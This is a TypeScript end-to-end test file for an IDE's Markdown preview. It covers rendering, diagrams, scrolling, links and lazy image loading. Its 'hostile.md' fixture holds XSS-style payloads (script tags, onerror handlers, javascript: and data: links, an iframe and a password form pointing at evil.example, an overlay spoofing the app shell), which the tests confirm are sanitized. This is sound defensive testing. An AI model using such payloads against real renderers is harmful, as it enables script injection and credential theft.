import { expect } from 'chai';
import { execFileSync } from 'child_process';
import { writeFile } from 'fs/promises';
import type { Locator } from 'playwright-core';
import { seriousFaults } from './harness/axe';
import { attacked } from './harness/policy';
import type { Ide } from './harness/ide';
import { Stage } from './harness/stage';
import { chooseTheme } from './harness/theme';
import { until } from '@openspace/tool/lib/test/until';

const FENCE = '```';
const DOT = (size: number) =>
    `<svg xmlns="http://www.w3.org/2000/svg" width="${size}" height="${size}"><circle r="5" cx="5" cy="5"/></svg>`;
const DRAWIO =
    '<mxfile><diagram name="One" id="p"><mxGraphModel><root><mxCell id="0"/><mxCell id="1" parent="0"/>' +
    '<mxCell id="a" value="Depot" style="rounded=1;" vertex="1" parent="1"><mxGeometry width="120" height="60" as="geometry"/></mxCell>' +
    '</root></mxGraphModel></diagram></mxfile>';
const EXCALIDRAW = JSON.stringify({
    type: 'excalidraw',
    version: 2,
    elements: [{ id: 'r', type: 'rectangle', x: 0, y: 0, width: 100, height: 60, strokeColor: '#e03131' }]
});
const PAGE = `---
title: Harbour
---

# The harbour

- [ ] load
- [x] sail

| Pier | Length |
| ---- | -----: |
| A    |    120 |

${FENCE}ts
const berth: number = 1;
${FENCE}

${FENCE}mermaid
flowchart LR
    A[Ship] --> B[Pier]
${FENCE}

![the plan](plan.whiteboard.json)

![](docs/yard.drawio) ![](sketch.excalidraw) ![](flow.mmd)

![a dot](docs/dot.svg) ![gone](no-such.png)

![tracker](https://tracker.example/pixel.png)

[the guide](docs/guide.md#the-second-part) · [code](src/a.ts#L2) · [up](../outside.md) · [below](#far-below)

${Array.from({ length: 80 }, (_, at) => `Paragraph ${at + 1}.\n`).join('\n')}
## Far below

The end.
`;
const HOSTILE = `# Hostile

<script>window.harmed = 1</script>
<img src="x" onerror="window.harmed = 2">
<iframe src="https://evil.example/"></iframe><svg><script>window.harmed = 3</script></svg>
<a href="javascript:window.harmed = 4">script</a> <a href="command:workbench.action.quit">command</a>
<form action="https://evil.example/"><input name="password"><button>Send</button></form>
<p style="position:fixed;inset:0" class="lm-Widget" id="theia-app-shell">cover</p>
<details><summary>More</summary>

**inside**

</details>

[data](data:text/html,<script>window.harmed=5</script>) ![remote](https://evil.example/a.png)
`;

/** More than a window should read at once, each a screen below the one before. */
const PICTURES = Array.from({ length: 60 }, (_, at) => `![dot ${at + 1}](docs/dot.svg?${at})\n${'\n- line'.repeat(40)}\n`);
/** More than Node has threads to wait in. */
const PIPES = Array.from({ length: 8 }, (_, at) => `pipe-${at}.png`);
const MANY = `# Many\n\n${PIPES.map(name => `![${name}](${name})`).join(' ')}\n\n${PICTURES.join('\n')}`;

declare global {
    interface Window {
        harmed?: number;
    }
}

describe('the preview of Markdown', () => {
    let stage: Stage;
    let ide: Ide;
    const foreign: string[] = [];

    before(async () => {
        stage = await Stage.start({
            files: {
                'page.md': PAGE,
                'hostile.md': HOSTILE,
                'many.md': MANY,
                'docs/guide.md': `# Guide\n\n${'Text.\n\n'.repeat(60)}## The second part\n\nHere.\n\n${'More.\n\n'.repeat(60)}`,
                'docs/dot.svg': DOT(20),
                'docs/yard.drawio': DRAWIO,
                'sketch.excalidraw': EXCALIDRAW,
                'flow.mmd': 'flowchart TB\n    Start --> Finish\n',
                'src/a.ts': 'one\ntwo\nthree\n'
            }
        });
        await stage.agent.call('openspace.whiteboard.create', { path: 'plan.whiteboard.json' });
        await stage.agent.call('openspace.whiteboard.replace', {
            path: 'plan.whiteboard.json',
            shapes: [{ id: 'quay', type: 'geo', x: 0, y: 0, width: 160, height: 80, label: 'Quay' }]
        });
        ({ ide } = stage);
        ide.page.on('request', request => {
            if (/^https?:/.test(request.url()) && !request.url().startsWith(stage.app.url)) {
                foreign.push(request.url());
            }
        });
    });
    after(() => stage.stop());
    afterEach(async function () {
        if (this.currentTest?.state === 'failed' && process.env.OPENSPACE_KEEP_PICTURES) {
            await ide.page.screenshot({ path: `${process.env.OPENSPACE_KEEP_PICTURES}/markdown-${this.currentTest.title}.png` });
        }
    });

    const preview = (): Locator => ide.page.locator('.openspace-markdown-preview:visible');
    const picture = (name: string): Locator => preview().locator(`button[title$="${name}"] img:not([hidden])`);
    const source = (of: Locator) => of.getAttribute('src').then(src => decodeURIComponent(src ?? ''));
    const keep = (name: string) =>
        process.env.OPENSPACE_KEEP_PICTURES && ide.page.screenshot({ path: `${process.env.OPENSPACE_KEEP_PICTURES}/${name}.png` });

    const openPreview = async () => {
        await ide.openFile('page.md');
        await ide.page.locator('.monaco-editor:visible').getByText('The harbour').click();
        await ide.page.keyboard.press('Control+k');
        await ide.page.keyboard.press('v');
        await preview().getByRole('heading', { name: 'The harbour' }).waitFor();
    };
    /** The page next to its preview, as the first test leaves it. */
    const previewed = async () => {
        if ((await ide.tab('Preview page.md').count()) === 0) {
            await openPreview();
            await picture('plan.whiteboard.json').waitFor();
        }
    };

    it('shows text, tables, tasks and coloured code, with diagrams and boards as pictures', async () => {
        await openPreview();

        expect(
            await preview()
                .locator('li[data-task] input')
                .evaluateAll(boxes => boxes.map(box => (box as HTMLInputElement).checked))
        ).to.deep.equal([false, true]);
        expect(await preview().locator('td').allInnerTexts()).to.deep.equal(['A', '120']);
        await preview().locator('.openspace-code-keyword', { hasText: 'const' }).waitFor();
        await preview().locator('pre[data-language=yaml]', { hasText: 'title: Harbour' }).waitFor();

        const mermaid = preview().getByRole('img', { name: 'Mermaid diagram' });
        await mermaid.waitFor();
        expect(await source(mermaid)).to.contain('Ship');
        const drawn = { 'plan.whiteboard.json': 'Quay', 'yard.drawio': 'Depot', 'sketch.excalidraw': '<svg', 'flow.mmd': 'Finish' };
        for (const [name, words] of Object.entries(drawn)) {
            await picture(name).waitFor();
            expect(await source(picture(name)), name).to.contain(words);
        }
        await until('the dot is shown', () =>
            preview()
                .getByAltText('a dot')
                .evaluate(image => (image as HTMLImageElement).naturalWidth === 20)
        );
        await preview().getByText('not found in the workspace').waitFor();
        await keep('markdown-light');
        expect(await seriousFaults(ide.page, '.openspace-markdown-preview')).to.deep.equal([]);
    });

    it('follows the text, the files of its pictures, and the theme @long', async () => {
        await previewed();
        await ide.page.locator('.monaco-editor:visible').getByText('The harbour').click();
        await ide.page.keyboard.press('End');
        await ide.page.keyboard.insertText(' at night');
        await preview().getByRole('heading', { name: 'The harbour at night' }).waitFor();

        await stage.agent.call('openspace.whiteboard.update_shape', { path: 'plan.whiteboard.json', shapeId: 'quay', label: 'Wharf' });
        await until('the board is drawn again', async () => (await source(picture('plan.whiteboard.json'))).includes('Wharf'));
        await writeFile(stage.app.file('docs/dot.svg'), DOT(30));
        await until('the dot has grown', () =>
            preview()
                .getByAltText('a dot')
                .evaluate(image => (image as HTMLImageElement).naturalWidth === 30)
        );

        const light = await source(picture('plan.whiteboard.json'));
        await chooseTheme(ide, stage.app, 'dark');
        await until('the board is dark', async () => (await source(picture('plan.whiteboard.json'))) !== light);
        await keep('markdown-dark');
        expect(await seriousFaults(ide.page, '.openspace-markdown-preview')).to.deep.equal([]);
        await chooseTheme(ide, stage.app, 'light');
    });

    it('scrolls with the text, and the text with it @long', async () => {
        await previewed();
        const text = ide.page.locator('.monaco-editor:visible .view-lines');
        await text.getByText('The harbour').click();
        await ide.page.keyboard.press('Control+End');
        await preview().getByText('The end.').waitFor();
        await until('the preview is at the end', () => preview().evaluate(host => host.scrollTop > 600));
        await preview().hover();
        await ide.page.mouse.wheel(0, -20_000);
        await text.getByText('title: Harbour').waitFor();
    });

    it('opens files, headings and boards that it names @long', async () => {
        await previewed();
        await preview().getByRole('link', { name: 'below' }).click();
        await until('the heading is seen', () => preview().evaluate(host => host.scrollTop > 600));
        await preview().getByRole('link', { name: 'the guide' }).click();
        await preview().last().getByText('Here.').waitFor();
        await until('the second part is at the top', () =>
            preview()
                .last()
                .evaluate(host => host.scrollTop > 400)
        );
        await ide.closeTab('Preview guide.md');
        await preview().getByRole('link', { name: 'up' }).click();
        await ide.page.getByText('The workspace has no file ../outside.md.').first().waitFor();
        await preview().getByRole('link', { name: 'code' }).click();
        await until('the line is gone to', async () => /Ln 2, Col 1/.test(await ide.page.locator('#theia-statusBar').innerText()));
        await ide.closeTab('a.ts');
        await preview().locator('button[title$="plan.whiteboard.json"]').click();
        await ide
            .canvas()
            .getByText(/^(Quay|Wharf)$/)
            .waitFor();
        await ide.closeTab('plan');
    });

    it('runs nothing of a text, and loads nothing from elsewhere unless asked', async () => {
        attacked.add(ide.page);
        await ide.openFile('hostile.md');
        await ide.page.locator('.monaco-editor:visible').getByText('# Hostile').click();
        await ide.page.keyboard.press('Control+Shift+v');
        await preview().getByRole('heading', { name: 'Hostile' }).waitFor();
        // Next to that of a test above.
        const shown = preview().filter({ has: ide.page.getByRole('heading', { name: 'Hostile' }) });
        await shown.locator('details strong').waitFor({ state: 'attached' });
        const ours = '.theia-button, .openspace-markdown-document';
        expect(await shown.locator(`script, iframe, form, button:not(${ours}), input, [style], [onerror], .lm-Widget`).count()).to.equal(0);
        const addresses = await shown.locator('a').evaluateAll(links => links.map(link => link.getAttribute('href') ?? ''));
        expect(addresses.filter(address => !/^(#|https?:|mailto:|[^:]*$)/i.test(address))).to.deep.equal([]);
        expect(await shown.locator('a[data-target]').count()).to.equal(0);
        expect(await ide.page.locator('#theia-app-shell').count()).to.equal(1);
        expect(await ide.page.evaluate(() => window.harmed)).to.equal(undefined);
        expect(foreign).to.deep.equal([]);
        const [request] = await Promise.all([
            ide.page.waitForRequest(candidate => candidate.url().includes('openspace/remote-content')),
            shown.getByRole('button', { name: 'Load picture' }).click()
        ]);
        expect(request.url()).to.contain(encodeURIComponent('https://evil.example/a.png'));
        await shown.getByText('The picture cannot be loaded.').waitFor();
    });

    it('reads pictures as they come near, and none that is a pipe', async () => {
        PIPES.forEach(name => execFileSync('mkfifo', [stage.app.file(name)]));
        await ide.openFile('many.md');
        await ide.page.locator('.monaco-editor:visible').getByText('# Many').click();
        await ide.page.keyboard.press('Control+Shift+v');
        await preview()
            .getByText('not found in the workspace')
            .nth(PIPES.length - 1)
            .waitFor();
        const loaded = preview().locator('img[src]');
        await loaded.first().waitFor();
        expect(await loaded.count()).to.be.lessThan(10);
        // The backend still reads files.
        await stage.agent.call('openspace.whiteboard.read', { path: 'plan.whiteboard.json' });
        await preview().getByAltText('dot 60').scrollIntoViewIfNeeded();
        await until('the last picture is shown', () =>
            preview()
                .getByAltText('dot 60')
                .evaluate(image => (image as HTMLImageElement).naturalWidth > 0)
        );
        expect(await loaded.count()).to.be.lessThan(PICTURES.length);
    });
});
